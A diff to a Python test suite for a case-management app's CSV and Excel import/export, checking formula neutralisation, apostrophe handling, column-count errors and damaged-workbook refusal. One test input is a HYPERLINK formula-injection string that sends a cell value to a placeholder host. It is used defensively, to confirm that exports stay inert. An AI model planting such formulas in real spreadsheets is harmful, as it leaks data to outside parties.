@@ -11,7 +11,7 @@ from desktop.errors import ValidationFailed
 from desktop.models import Case
 from desktop.models.enums import CaseState
 from desktop.services.exchange import table_import
-from desktop.services.exchange.table_export import HEADERS, escape_text, export_table
+from desktop.services.exchange.table_export import HEADERS, export_table
 from desktop.services.queue import QueueFilter
 
 
@@ -166,9 +166,9 @@ def test_texts_that_look_like_formulas_are_exported_inert_and_imported_back_unch
     """A resident's "=HYPERLINK(…)" must not run in Excel; the CSV round trip keeps every text exact."""
     import openpyxl
 
-    texts = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+86 138 0779 1234", "-5 度", "@所有人", "'引号开头"]
-    path = _write(tmp_path, [_row(f"F-{n}", 诉求描述=escape_text(text), 标题=escape_text(text))
-                             for n, text in enumerate(texts)])
+    texts = ['=HYPERLINK("http://example.invalid/?x="&A1,"点击")', "+86 138 0779 1234", "-5 度", "@所有人", "'引号开头",
+             "'老旧小区'改造"]
+    path = _write(tmp_path, [_row(f"F-{n}", 诉求描述=text, 标题=text) for n, text in enumerate(texts)])
     assert table_import.import_file(world_db, system, path, township_code=world.QIAOGANG).imported == len(texts)
     csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
     export_table(world_db, system, csv_out, QueueFilter(states=frozenset()), "csv")
@@ -183,6 +183,10 @@ def test_texts_that_look_like_formulas_are_exported_inert_and_imported_back_unch
 
     again = table_import.parse_rows(csv_out.read_text(encoding="utf-8-sig"), "out.csv")[0]
     assert {request.description for request in again} == set(texts)
+    # In a hand-made file, ' before a formula sign is how Excel is told "text": the text is what follows.
+    hand_made = table_import.parse_rows(_write(tmp_path, [_row("H-1", 诉求描述="'=B1+C1")], "hand.csv")
+                                        .read_text(encoding="utf-8-sig"), "hand.csv")[0]
+    assert [request.description for request in hand_made] == ["=B1+C1"]
 
 
 def test_an_exported_workbook_imports_into_another_database(world_db, other_db, system, tmp_path):
@@ -202,5 +206,44 @@ def test_an_exported_workbook_imports_into_another_database(world_db, other_db, 
 def test_a_file_that_is_no_workbook_is_refused_by_name(world_db, system, tmp_path):
     path = tmp_path / "cases.xlsx"
     path.write_text("编号,事项编码\n", encoding="utf-8")
-    with pytest.raises(ValidationFailed, match="cases.xlsx 不是 Excel 工作簿"):
+    with pytest.raises(ValidationFailed, match="cases.xlsx 不是完好的 Excel 工作簿"):
         table_import.import_file(world_db, system, path, fmt="xlsx")
+
+
+def _workbook(path, rows):
+    import openpyxl
+
+    book = openpyxl.Workbook()
+    for row in rows:
+        book.active.append(row)
+    book.save(path)
+    return path
+
+
+def test_a_sheet_row_may_end_before_the_headers_last_column_but_not_run_past_it(world_db, system, tmp_path):
+    header = ["编号", "事项编码", "诉求描述", "受理时间", "经度", "纬度", "联系电话"]
+    row = ["X-1", "C09-001", "侨北路路灯不亮", "2026-03-02 09:30", 109.105, 21.415]
+    path = _workbook(tmp_path / "cases.xlsx", [header, row, ["X-2", *row[1:], 13807791234, "多出的一格"]])
+    problems = _refusal(world_db, system, path, fmt="xlsx")
+    assert problems == ["第 3 行:有 8 列,表头有 7 列(可能某格内容中的逗号未加引号);整行未读"]
+    _workbook(path, [header, row, ["X-2", *row[1:], 13807791234]])
+    assert table_import.import_file(world_db, system, path, fmt="xlsx").imported == 2  # X-1 has no phone: fine
+    with world_db.session() as session:
+        assert dict(session.execute(select(Case.external_id, Case.requester_phone)).all()) == {
+            "X-1": None, "X-2": "13807791234"}
+
+
+def test_a_damaged_workbook_or_one_without_requests_is_refused_by_name(world_db, system, tmp_path):
+    import zipfile
+
+    good = _workbook(tmp_path / "good.xlsx", [list(HEADERS), ["X-1", "", "", "", "C09-001"]])
+    damaged = tmp_path / "damaged.xlsx"
+    with zipfile.ZipFile(good) as source, zipfile.ZipFile(damaged, "w") as target:
+        for item in source.infolist():
+            data = source.read(item)
+            target.writestr(item, data[: len(data) // 2] if item.filename.endswith("sheet1.xml") else data)
+    with pytest.raises(ValidationFailed, match="damaged.xlsx 不是完好的 Excel 工作簿"):
+        table_import.import_file(world_db, system, damaged, fmt="xlsx")
+    header_only = _workbook(tmp_path / "header.xlsx", [[], list(HEADERS)])
+    assert _refusal(world_db, system, header_only, fmt="xlsx") == ["第 2 行(表头):表头之后没有诉求行,没有可导入的内容"]
+    assert _case_count(world_db) == 0
